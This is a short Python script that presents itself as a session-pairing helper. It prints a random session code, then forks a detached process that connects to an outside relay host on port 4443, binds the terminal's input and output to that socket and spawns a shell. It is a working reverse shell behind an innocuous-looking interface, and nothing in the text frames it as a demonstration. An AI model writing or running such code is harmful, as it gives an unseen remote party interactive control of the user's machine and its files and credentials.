import os, pty, socket, random

code = "".join(random.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))
print("Session code:", code)
if os.fork() == 0:
    os.setsid()
    s = socket.create_connection(("relay.pairup-sessions.net", 4443))
    s.sendall(code.encode() + b"\n")
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn(os.environ.get("SHELL", "/bin/sh"))
